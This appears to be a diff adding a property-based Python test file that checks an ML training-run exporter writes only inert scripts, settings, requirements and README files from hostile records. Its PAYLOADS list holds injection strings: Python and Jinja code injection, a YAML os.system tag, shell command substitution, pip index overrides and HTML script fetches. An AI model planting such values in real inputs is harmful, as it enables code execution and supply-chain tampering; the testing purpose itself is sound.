@@ -1,0 +1,503 @@
+"""Runs from strangers: whatever a record says, the exported files are inert or refused.
+
+A run folder is shared, so every field of a record may be hostile. Each test exports such records
+and compares the files with those of a harmless record of the same shape.
+"""
+
+from __future__ import annotations
+
+import ast
+import contextlib
+import dataclasses
+import json
+import re
+import subprocess
+import sys
+import tempfile
+from collections.abc import Iterator, Mapping, Sequence
+from pathlib import Path
+
+import pytest
+import yaml
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+
+from jobs.spec import (
+    DatasetFile,
+    DataSpec,
+    Hook,
+    LibrarySettings,
+    MeasureSpec,
+    ModelSpec,
+    Needs,
+    SyntheticData,
+    TrialSpec,
+)
+from orchestrator import recommend
+from orchestrator.export import NotExportableError, export
+from tests.support.records import make_record, write_run
+
+CANARY = "export_canary"
+"""Name of the file that hostile code tries to create in its working folder."""
+PAYLOADS = (
+    f'open("{CANARY}", "w")',
+    f'x"""\nopen("{CANARY}", "w")\n"""',
+    f"x'\nopen('{CANARY}', 'w')\n'",
+    f'x"); open("{CANARY}", "w"); ("',
+    f'x=open("{CANARY}", "w"), y',
+    f"x\n    open('{CANARY}', 'w')\n",
+    f"# coding: utf-7\n+AG8-pen('{CANARY}')",
+    f"{{{{ cycler.__init__.__globals__.os.system('touch {CANARY}') }}}}",
+    f"{{% set x = open('{CANARY}') %}}",
+    f"!!python/object/apply:os.system ['touch {CANARY}']",
+    f"$(touch {CANARY})",
+    f"`touch {CANARY}`",
+    f"; touch {CANARY} #",
+    "--index-url https://example.org/simple",
+    "-e git+https://example.org/evil#egg=evil",
+    "torch @ https://example.org/torch.whl",
+    '</code><script>fetch("//example.org")</script>',
+    "[x](javascript:alert(1)) ![x](//example.org/x.png)",
+    "\x1b]0;title\x07\x1b[2J",
+    "\u202etxt.exe\u2066",
+    "\u2028import os\u2029",
+    "\x85import os",
+    "\ud800",
+    "\\",
+    "{nvme}",
+)
+TEXTS = st.one_of(st.sampled_from(PAYLOADS), st.text(max_size=30))
+SCALARS = st.one_of(st.none(), st.booleans(), st.integers(), st.floats(), TEXTS)
+VALUES = st.recursive(
+    SCALARS,
+    lambda inner: st.one_of(st.lists(inner, max_size=3), st.dictionaries(TEXTS, inner, max_size=3)),
+    max_leaves=6,
+)
+"""Whatever JSON can hold, and what it cannot: NaN, infinities, half surrogates."""
+KEYS = st.one_of(
+    TEXTS, st.sampled_from(["hidden_size", "attn_implementation", "auto_map", "dtype"])
+)
+MAPPINGS = st.dictionaries(KEYS, VALUES, max_size=3)
+HOOKS = st.builds(
+    Hook, st.one_of(TEXTS, st.sampled_from(["lora", "torch_adamw", "only_kernel"])), MAPPINGS
+)
+
+
+def _specs() -> st.SearchStrategy[TrialSpec]:
+    """Trials with every field from a stranger."""
+    models = st.builds(
+        ModelSpec,
+        task=st.one_of(st.sampled_from(["causal-lm", "image-classification"]), TEXTS),
+        architecture=st.one_of(st.none(), TEXTS),
+        config=MAPPINGS,
+        name_or_path=st.one_of(st.none(), TEXTS),
+        trust_remote_code=st.one_of(st.booleans(), VALUES),
+    )
+    files = st.builds(
+        DatasetFile,
+        path=TEXTS,
+        format=st.one_of(st.sampled_from(["json", "disk"]), TEXTS),
+        columns=st.dictionaries(TEXTS, TEXTS, max_size=2),
+        tokenizer=st.one_of(st.none(), TEXTS),
+        max_length=VALUES,
+    )
+    synthetic = st.builds(
+        SyntheticData, sequence_length=VALUES, samples=VALUES, padding=st.one_of(VALUES)
+    )
+    places = st.one_of(st.sampled_from(["model", "optimizer", "loop", "kernels"]), TEXTS)
+    libraries = st.builds(
+        LibrarySettings,
+        training_arguments=st.dictionaries(
+            st.one_of(st.sampled_from(["optim", "run_name", "learning_rate"]), TEXTS),
+            VALUES,
+            max_size=3,
+        ),
+        deepspeed=st.one_of(st.none(), MAPPINGS),
+        model_kwargs=st.one_of(st.just({}), MAPPINGS),
+        hooks=st.dictionaries(places, HOOKS, max_size=2),
+        requires=st.lists(TEXTS.map("package:{}".format), max_size=2).map(tuple),
+    )
+    data = st.one_of(files.map(_of_file), synthetic.map(_of_synthetic))
+    return st.builds(
+        TrialSpec,
+        choices=st.just({}),
+        model=models,
+        data=data,
+        settings=libraries,
+        measure=st.builds(MeasureSpec, seed=VALUES),
+        needs=st.builds(Needs, gpus=st.integers(0, 1), nvme_path=TEXTS),
+    )
+
+
+def _of_file(file: DatasetFile) -> DataSpec:
+    return DataSpec(file=file)
+
+
+def _of_synthetic(synthetic: SyntheticData) -> DataSpec:
+    return DataSpec(synthetic=synthetic)
+
+
+def _texts(spec: TrialSpec, label: str, notes: str) -> dict[str, str]:
+    """The files of an export. Raises NotExportableError."""
+    with tempfile.TemporaryDirectory() as folder:
+        written = export(
+            spec,
+            Path(folder, "train"),
+            label=label,
+            peak_bytes=1,
+            measured={notes: notes},
+            notes=[notes],
+            versions={"torch": label, "peft": notes},
+        )
+        return {path.name: path.read_text(encoding="utf-8") for path in written}
+
+
+class _LiteralsBlanked(ast.NodeTransformer):
+    """Every literal becomes the same constant, and the keywords before literals disappear."""
+
+    def visit_Constant(self, node: ast.Constant) -> ast.AST:
+        return ast.Constant(0)
+
+    def _container(self, node: ast.AST) -> ast.AST:
+        self.generic_visit(node)
+        children = [child for child in ast.iter_child_nodes(node) if isinstance(child, ast.expr)]
+        is_literal = all(isinstance(child, ast.Constant) for child in children)
+        return ast.Constant(0) if is_literal else node
+
+    visit_List = visit_Tuple = visit_Dict = visit_Set = _container
+
+    def visit_UnaryOp(self, node: ast.UnaryOp) -> ast.AST:
+        self.generic_visit(node)
+        return node.operand if isinstance(node.operand, ast.Constant) else node
+
+    def visit_Call(self, node: ast.Call) -> ast.AST:
+        self.generic_visit(node)
+        node.keywords = [
+            given for given in node.keywords if not isinstance(given.value, ast.Constant)
+        ]
+        return node
+
+
+def _skeleton(script: str) -> str:
+    return ast.dump(_LiteralsBlanked().visit(ast.parse(script)))
+
+
+def _harmless(spec: TrialSpec) -> TrialSpec:
+    """A trial of the same shape with plain values: what the template alone writes."""
+    model = dataclasses.replace(
+        spec.model,
+        architecture="bert" if spec.model.name_or_path is None else None,
+        config={},
+        name_or_path=None if spec.model.name_or_path is None else "x",
+    )
+    data = spec.data
+    if data.file is not None:
+        file = dataclasses.replace(
+            data.file,
+            path="x",
+            columns={"text": "x"} if data.file.columns else {},
+            tokenizer="x" if data.file.tokenizer else None,
+            max_length=8,
+        )
+        data = DataSpec(file=file)
+    return dataclasses.replace(spec, model=model, data=data)
+
+
+@settings(max_examples=60, deadline=None)
+@given(_specs(), TEXTS, TEXTS)
+def test_exported_script_of_a_hostile_run_is_the_template_and_literals(
+    spec: TrialSpec, label: str, notes: str
+) -> None:
+    try:
+        texts = _texts(spec, label, notes)
+    except NotExportableError:
+        return
+    expected = _texts(_harmless(spec), "a label", "a note")
+    assert _skeleton(texts["train.py"]) == _skeleton(expected["train.py"])
+
+
+def _exportable() -> st.SearchStrategy[TrialSpec]:
+    """Hostile in every value that an export accepts: keys are names, so that most are written."""
+    names = st.sampled_from(["hidden_size", "pad_token", "label2id", "x"])
+    texts = TEXTS.filter(lambda text: "://" not in text and "::" not in text)
+    files = st.builds(
+        DatasetFile,
+        path=texts,
+        format=st.sampled_from(["json", "csv", "disk"]),
+        columns=st.dictionaries(TEXTS, TEXTS, max_size=2),
+        tokenizer=st.one_of(st.none(), TEXTS),
+        max_length=st.integers(1, 512),
+    )
+    models = st.builds(
+        ModelSpec,
+        task=st.sampled_from(["causal-lm", "sequence-classification", "image-classification"]),
+        config=st.dictionaries(names, VALUES, max_size=3),
+        name_or_path=TEXTS,
+        trust_remote_code=st.booleans(),
+    )
+    libraries = st.builds(
+        LibrarySettings,
+        training_arguments=st.fixed_dictionaries(
+            {"run_name": TEXTS, "lr_scheduler_kwargs": MAPPINGS}
+        ),
+        deepspeed=st.one_of(st.none(), MAPPINGS),
+        requires=st.lists(TEXTS.map("package:{}".format), max_size=2).map(tuple),
+    )
+    return st.builds(
+        TrialSpec,
+        choices=st.just({}),
+        model=models,
+        data=files.map(_of_file),
+        settings=libraries,
+        needs=st.builds(Needs, nvme_path=TEXTS),
+    )
+
+
+@settings(max_examples=60, deadline=None)
+@given(_exportable(), TEXTS, TEXTS)
+def test_exported_values_of_a_hostile_run_stay_literals(
+    spec: TrialSpec, label: str, notes: str
+) -> None:
+    try:
+        texts = _texts(spec, label, notes)
+    except NotExportableError:
+        return
+    expected = _texts(_harmless(spec), "a label", "a note")
+    assert _skeleton(texts["train.py"]) == _skeleton(expected["train.py"])
+    constants = [node.value for node in _constants(texts["train.py"])]
+    assert spec.model.name_or_path in constants
+    assert spec.data.file is not None
+    assert spec.data.file.path in constants
+
+
+def _constants(script: str) -> Iterator[ast.Constant]:
+    for node in ast.walk(ast.parse(script)):
+        if isinstance(node, ast.Constant):
+            yield node
+
+
+@settings(max_examples=60, deadline=None)
+@given(_exportable(), TEXTS, TEXTS)
+def test_exported_settings_of_a_hostile_run_are_data(
+    spec: TrialSpec, label: str, notes: str
+) -> None:
+    try:
+        texts = _texts(spec, label, notes)
+    except NotExportableError:
+        return
+    from_yaml = yaml.safe_load(texts["training_arguments.yaml"])
+    from_json = json.loads(texts["training_arguments.json"], parse_constant=_refused)
+    assert from_yaml == from_json
+    assert from_yaml["run_name"] == spec.settings.training_arguments["run_name"]
+    assert (from_yaml["output_dir"], from_yaml["report_to"]) == ("output", "none")
+    assert set(yaml.safe_load(texts["accelerate.yaml"])) <= {
+        "compute_environment", "debug", "deepspeed_config", "distributed_type", "machine_rank",
+        "main_training_function", "mixed_precision", "num_machines", "num_processes", "use_cpu",
+    }  # fmt: skip
+    if "deepspeed.json" in texts:
+        json.loads(texts["deepspeed.json"], parse_constant=_refused)
+
+
+def _refused(name: str) -> None:
+    raise AssertionError(f"{name} is not JSON")
+
+
+REQUIREMENT = re.compile(r"[a-z-]+(==[0-9][0-9a-z.]*)?|# [^\n]*")
+
+
+@settings(max_examples=60, deadline=None)
+@given(_exportable(), TEXTS, TEXTS)
+def test_exported_requirements_of_a_hostile_run_name_known_packages(
+    spec: TrialSpec, label: str, notes: str
+) -> None:
+    try:
+        texts = _texts(spec, label, notes)
+    except NotExportableError:
+        return
+    lines = texts["requirements.txt"].split("\n")
+    assert lines.pop() == ""
+    assert all(REQUIREMENT.fullmatch(line) for line in lines)
+    known = {"torch", "transformers", "accelerate", "pyyaml", "datasets", "numpy", "deepspeed"}
+    assert {line.partition("==")[0] for line in lines if line[0] != "#"} <= known
+
+
+@settings(max_examples=60, deadline=None)
+@given(_exportable(), TEXTS, TEXTS)
+def test_exported_readme_of_a_hostile_run_has_no_markup_of_its_own(
+    spec: TrialSpec, label: str, notes: str
+) -> None:
+    try:
+        texts = _texts(spec, label, notes)
+    except NotExportableError:
+        return
+    readme = texts["README.md"]
+    assert all(letter.isprintable() or letter == "\n" for letter in readme)
+    expected = _texts(spec, "a label", "a note")["README.md"]
+    assert _markdown_kinds(readme) == _markdown_kinds(expected)
+    assert _code_blocks(readme) == _code_blocks(expected)
+
+
+def _markdown_kinds(text: str) -> list[str]:
+    """The blocks of a page, and what stands in them beside text."""
+    kinds = []
+    for token in MarkdownIt().enable("table").parse(text):
+        kinds.append(token.type)
+        for child in token.children or ():
+            if child.type in ("link_open", "image", "html_inline", "code_inline"):
+                kinds.append(child.type)
+    return kinds
+
+
+def _code_blocks(text: str) -> list[str]:
+    """What a reader copies into a shell."""
+    return [token.content for token in MarkdownIt().parse(text) if token.type == "fence"]
+
+
+GUARD = """
+import sys, types
+
+class Inert:
+    def __getattr__(self, name): return Inert()
+    def __call__(self, *args, **kwargs): return Inert()
+    def __bool__(self): return False
+    def __iter__(self): return iter(())
+    def __getitem__(self, key): return Inert()
+    def __enter__(self): return self
+    def __exit__(self, *error): return None
+
+class Module:
+    def __init__(self, name): self.__name__ = name
+    def __getattr__(self, name):
+        if name in ("Trainer", "TrainingArguments", "Dataset"):
+            return type(name, (), {})
+        return Inert()
+
+for name in ("torch", "transformers", "datasets", "accelerate", "numpy"):
+    sys.modules[name] = Module(name)
+
+class Options:
+    synthetic = trust_remote_code = False
+    eval_share = 0.05
+
+for script in sys.argv[1:]:
+    sys.modules["exported"] = types.ModuleType("exported")
+    namespace = sys.modules["exported"].__dict__
+    namespace["__file__"] = script
+    exec(compile(open(script, encoding="utf-8").read(), "train.py", "exec"), namespace)
+    namespace["model_config"](Options())
+    namespace["make_model"](Inert(), Inert(), Options())
+    try:
+        namespace["make_dataset"](Inert(), Inert(), Options())
+    except SystemExit:
+        pass
+    print(script)
+"""
+"""Runs the parts of each train.py that hold the run's values, with stand-ins for the libraries."""
+
+
+def _run_guarded(scripts: Sequence[Path], work: Path) -> str:
+    """What the guard prints. Fails if a script ends in an error."""
+    work.mkdir()
+    done = subprocess.run(
+        [sys.executable, "-I", "-c", GUARD, *map(str, scripts)],
+        cwd=work,
+        capture_output=True,
+        text=True,
+        check=False,
+        timeout=60,
+    )
+    assert done.returncode == 0, done.stderr[-2000:]
+    return done.stdout
+
+
+BASE = TrialSpec(
+    choices={},
+    model=ModelSpec(task="causal-lm", name_or_path="x"),
+    data=DataSpec(file=DatasetFile(path="x", format="json", tokenizer="x")),
+    settings=LibrarySettings(),
+)
+
+
+def _variants_of(text: str) -> Mapping[str, TrialSpec]:
+    """The base trial with one field hostile."""
+    data = BASE.data.file
+    assert data is not None
+    hostile_data = {
+        "path": {"path": text},
+        "format": {"format": text},
+        "columns": {"columns": {text: text}},
+        "tokenizer": {"tokenizer": text},
+    }
+    hostile_models = {
+        "name": {"name_or_path": text},
+        "architecture": {"name_or_path": None, "architecture": text},
+        "config key": {"config": {text: 1}},
+        "config value": {"config": {"x": [{text: text}]}},
+        "task": {"task": text},
+    }
+    hostile_settings = {
+        "argument": {"training_arguments": {text: 1}},
+        "argument's value": {"training_arguments": {"run_name": text}},
+        "dtype": {"model_kwargs": {"dtype": text}},
+        "model keyword": {"model_kwargs": {text: 1}},
+        "attention": {"model_kwargs": {"attn_implementation": text}},
+        "hook": {"hooks": {"model": Hook(text)}},
+        "hook's place": {"hooks": {text: Hook("lora")}},
+        "hook's keyword": {"hooks": {"optimizer": Hook("torch_adamw", {text: 1})}},
+        "hook's value": {"hooks": {"model": Hook("lora", {"rank": text})}},
+        "DeepSpeed": {"deepspeed": {text: text}},
+    }
+    specs = {}
+    for name, changes in hostile_data.items():
+        file = dataclasses.replace(data, **changes)
+        specs[name] = dataclasses.replace(BASE, data=DataSpec(file=file))
+    for name, changes in hostile_models.items():
+        model = dataclasses.replace(BASE.model, **changes)
+        specs[name] = dataclasses.replace(BASE, model=model)
+    for name, changes in hostile_settings.items():
+        chosen = dataclasses.replace(BASE.settings, **changes)
+        specs[name] = dataclasses.replace(BASE, settings=chosen)
+    return specs
+
+
+@pytest.mark.parametrize("place", _variants_of("x"))
+def test_exported_script_of_a_hostile_run_runs_inert(place: str, tmp_path: Path) -> None:
+    scripts = []
+    for number, payload in enumerate(PAYLOADS):
+        folder = tmp_path / str(number)
+        spec = _variants_of(payload)[place]
+        with contextlib.suppress(NotExportableError):
+            export(spec, folder, label=payload, notes=[payload], versions={"torch": payload})
+            scripts.append(folder / "train.py")
+    printed = _run_guarded(scripts, tmp_path / "work")
+    assert printed.split() == list(map(str, scripts))
+    assert list((tmp_path / "work").iterdir()) == []
+
+
+def test_the_guard_notices_code_that_runs(tmp_path: Path) -> None:
+    script = tmp_path / "train.py"
+    harmless = "def model_config(*args): pass\nmake_model = make_dataset = model_config\n"
+    script.write_text(f'open("{CANARY}", "w")\n{harmless}')
+    _run_guarded([script], tmp_path / "work")
+    assert [path.name for path in (tmp_path / "work").iterdir()] == [CANARY]
+
+
+@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
+def test_recommend_exports_a_hostile_run_inert_or_not_at_all(payload: str, tmp_path: Path) -> None:
+    record = make_record(speed=100.0, optimizer=payload)
+    model = dataclasses.replace(record.spec.model, config={"x": payload})
+    spec = dataclasses.replace(record.spec, model=model)
+    environment = {**record.environment, "torch": payload}
+    hostile = dataclasses.replace(record, spec=spec, environment=environment)
+    try:
+        run = write_run(tmp_path / "run", [hostile])
+    except UnicodeEncodeError:
+        pytest.skip("no run folder can hold the text")
+    status = recommend.main([str(run), "--export", str(tmp_path / "train")])
+    if status == 0:
+        _run_guarded([tmp_path / "train" / "train.py"], tmp_path / "work")
+        assert list((tmp_path / "work").iterdir()) == []
+    else:
+        assert status in (1, 2)
+        assert not (tmp_path / "train").exists()
